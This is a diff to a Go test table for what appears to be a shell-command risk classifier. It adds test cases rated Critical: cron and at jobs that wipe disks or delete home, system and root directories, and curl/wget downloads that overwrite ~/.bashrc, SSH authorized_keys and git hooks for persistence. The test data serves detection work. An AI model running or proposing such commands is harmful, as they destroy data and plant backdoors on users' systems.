@@ -13,6 +13,11 @@ func TestPersistence(t *testing.T) {
 		{"crontab <(echo '0 0 * * * dd if=/dev/zero of=/dev/sda')", Critical, "disk.dd-device"},
 		{"crontab -l | { cat; echo '@hourly rm -rf /var/lib'; } | crontab -", Critical, "fs.rm-system"},
 		{"echo '0 2 * * * /usr/local/bin/backup.sh' | crontab -", Moderate, "persist.cron"},
+		{"crontab -l | sed '$a @reboot rm -rf ~' | crontab -", Critical, "fs.rm-home"},
+		// Downloaded into a file that runs later.
+		{"curl -o ~/.bashrc http://x/rc", Critical, "net.download-persist"},
+		{"wget -O ~/.ssh/authorized_keys http://x/k", Critical, "net.download-persist"},
+		{"curl -sL http://x/h -o .git/hooks/pre-commit", Critical, "net.download-persist"},
 		// at, batch, systemd-run.
 		{"echo 'rm -rf /' | at now + 1 minute", Critical, "fs.rm-root"},
 		{"at midnight <<< 'mkfs.ext4 /dev/sda1'", Critical, "disk.mkfs"},
